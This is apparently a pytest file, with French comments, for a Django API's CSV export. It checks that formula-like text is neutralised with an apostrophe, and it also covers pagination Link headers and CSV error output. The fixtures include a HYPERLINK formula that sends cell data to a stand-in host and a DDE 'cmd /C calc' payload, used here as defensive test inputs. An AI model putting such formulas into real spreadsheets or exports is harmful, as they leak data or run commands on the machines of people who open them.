"""`?format=csv` de l'API : un texte saisi qui commence comme une formule de tableur
(« =HYPERLINK(…) », « @SUM(…) », « +… », « -… », tabulation, retour chariot) est préfixé d'une
apostrophe, comme dans les CSV des bilans et l'export des valeurs (evalpic.tableurs); les
nombres restent intacts. Une liste paginée dit où est la page suivante (en-tête Link), ce que
le CSV ne pourrait dire autrement."""

from __future__ import annotations

import csv
import io
import re

import pytest

from evalpic.tableurs import neutraliser_formule
from indicateurs.models import Valeur
from tests.api import test_saisies_bilans as base
from tests.api.test_saisies_bilans import client_de

# Les données des tests de l'API des saisies (A et B remplis pour 2025-T1).
_fichiers_temporaires = base._fichiers_temporaires
periode = base.periode
indicateurs = base.indicateurs
monde = base.monde

pytestmark = pytest.mark.django_db

API = "/api/v1"
FORMULE = '=HYPERLINK("http://mechant.example/?x="&A1,"clic")'


def _lignes(reponse) -> list[dict]:
    assert reponse.status_code == 200, reponse.content[:300]
    assert reponse["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(reponse.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "texte,attendu",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("42", "42"),
        ("Adoptée", "Adoptée"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutraliser_formule(texte, attendu):
    assert neutraliser_formule(texte) == attendu


def test_le_rendu_csv_neutralise_chaque_case_de_texte():
    # rest_framework.views d'abord : ses réglages importent evalpic.api.commun.
    from rest_framework import views  # noqa: F401

    from evalpic.api.commun import RenduCSV

    donnees = {
        "results": [
            {"texte": "=1+1", "nombre": -3, "decimal": "-3.50", "vide": None, "liste": ["=x"]},
            {"texte": "@A1", "nombre": 2, "decimal": "12", "vide": None, "liste": []},
        ]
    }
    lignes = list(csv.reader(io.StringIO(RenduCSV().render(donnees).decode("utf-8-sig"))))
    assert lignes == [
        ["texte", "nombre", "decimal", "vide", "liste"],
        ["'=1+1", "-3", "-3.50", "", '["=x"]'],  # une liste en JSON (tests/api/test_csv_forme.py)
        ["'@A1", "2", "12", "", "[]"],
    ]


def test_apprentissage_en_formule_neutralise_en_csv(monde, alice):
    client = client_de(alice, "jeton")
    reponse = client.post(
        f"{API}/apprentissages/",
        {"quartier": "quartier-a", "periode": "2025-T1", "categorie": "defis", "texte_fr": FORMULE},
        format="json",
    )
    assert reponse.status_code == 201, reponse.content
    lignes = _lignes(client.get(f"{API}/apprentissages/", {"format": "csv"}))
    assert [ligne["texte_fr"] for ligne in lignes] == [f"'{FORMULE}"]
    # Le JSON garde le texte tel quel : seule la sortie pour tableur est neutralisée.
    assert client.get(f"{API}/apprentissages/").json()["results"][0]["texte_fr"] == FORMULE


def test_valeur_texte_et_commentaire_en_formule_neutralises_en_csv(monde, alice):
    client = client_de(alice, "jeton")
    saisie = monde.saisie_a
    reponse = client.put(
        f"{API}/saisies/{saisie.pk}/valeurs/",
        {
            "valeurs": [
                {"indicateur": "politique", "valeur": "@SUM(1+1)*cmd|' /C calc'!A0"},
                {"indicateur": "taux", "valeur": "42,5", "commentaire": "=1+1"},
            ]
        },
        format="json",
        HTTP_IF_MATCH=f'"{saisie.version}"',
    )
    assert reponse.status_code == 200, reponse.content
    lignes = _lignes(client.get(f"{API}/valeurs/", {"format": "csv", "quartier": "quartier-a"}))
    par_code = {ligne["indicateur"]: ligne for ligne in lignes}
    assert par_code["politique"]["valeur_texte"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert par_code["taux"]["commentaire"] == "'=1+1"
    assert par_code["taux"]["valeur"] == "42.5"
    assert par_code["menages"]["valeur"] == "120"


# --- Pagination : l'en-tête Link mène à la page suivante, en CSV comme en JSON -----------------

LIEN = re.compile(r'<([^>]+)>; rel="(next|prev)"')


def _liens(reponse) -> dict[str, str]:
    return {rel: url for url, rel in LIEN.findall(reponse.get("Link", ""))}


def test_les_valeurs_en_csv_disent_ou_est_la_page_suivante(monde, eve):
    client = client_de(eve, "jeton")
    vues, adresse = [], f"{API}/valeurs/?taille=2&format=csv"
    while adresse:
        reponse = client.get(adresse)
        lignes = _lignes(reponse)
        assert len(lignes) <= 2
        vues += [int(ligne["id"]) for ligne in lignes]
        adresse = _liens(reponse).get("next")
        assert adresse is None or "format=csv" in adresse
    assert vues == sorted(Valeur.objects.values_list("pk", flat=True))  # 6 valeurs, 3 pages


def test_le_lien_suivant_aussi_en_json_et_le_precedent(monde, eve):
    client = client_de(eve, "jeton")
    premiere = client.get(f"{API}/valeurs/", {"taille": 2})
    assert _liens(premiere) == {"next": premiere.json()["next"]}
    seconde = client.get(premiere.json()["next"])
    assert _liens(seconde) == {"next": seconde.json()["next"], "prev": seconde.json()["previous"]}


def test_les_listes_paginees_par_numero_aussi(monde, eve):
    client = client_de(eve, "jeton")
    reponse = client.get(f"{API}/quartiers/", {"taille": 1, "format": "csv"})
    assert len(_lignes(reponse)) == 1
    suivante = _liens(reponse)["next"]
    assert "page=2" in suivante and "format=csv" in suivante
    derniere = client.get(f"{API}/quartiers/", {"taille": 1, "page": 2, "format": "csv"})
    assert "next" not in _liens(derniere)
    assert "Link" not in client.get(f"{API}/quartiers/", {"format": "csv"})  # une seule page


def test_le_schema_documente_l_en_tete_link(db):
    from rest_framework.test import APIClient

    schema = APIClient().get("/api/schema/", {"format": "json"}).json()
    for chemin in ("/api/v1/valeurs/", "/api/v1/quartiers/", "/api/v1/saisies/"):
        assert "Link" in schema["paths"][chemin]["get"]["responses"]["200"]["headers"], chemin
    assert "headers" not in schema["paths"]["/api/v1/quartiers/{slug}/"]["get"]["responses"]["200"]


def _erreur_csv(reponse) -> list[dict]:
    assert reponse["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(reponse.content.decode("utf-8-sig"))))


def test_une_erreur_en_csv_se_lit_champ_par_champ(monde, alice):
    """Avant : une case « [ErrorDetail(string='Période attendue…', code='invalid')] »."""
    reponse = client_de(alice, "jeton").get(f"{API}/valeurs/", {"periode": "zz", "format": "csv"})
    assert reponse.status_code == 400
    assert _erreur_csv(reponse) == [
        {"champ": "periode", "message": "Période attendue sous la forme 2025-T2."}
    ]


def test_une_erreur_sans_champ_et_une_erreur_imbriquee_en_csv(monde, alice):
    from evalpic.api.commun import RenduCSV

    class Reponse:
        status_code = 400

    detail = {"detail": "Refusé.", "valeurs": [{}, {"valeur": ["Trop grand.", "Négatif."]}]}
    contenu = RenduCSV().render(detail, renderer_context={"response": Reponse()})
    lignes = list(csv.DictReader(io.StringIO(contenu.decode("utf-8-sig"))))
    assert lignes == [
        {"champ": "detail", "message": "Refusé."},
        {"champ": "valeurs.1.valeur", "message": "Trop grand."},
        {"champ": "valeurs.1.valeur", "message": "Négatif."},
    ]
    reponse = client_de(alice, "jeton").get(f"{API}/saisies/999999/", {"format": "csv"})
    assert reponse.status_code == 404
    (ligne,) = _erreur_csv(reponse)
    assert ligne["champ"] == "detail" and "ErrorDetail" not in ligne["message"]
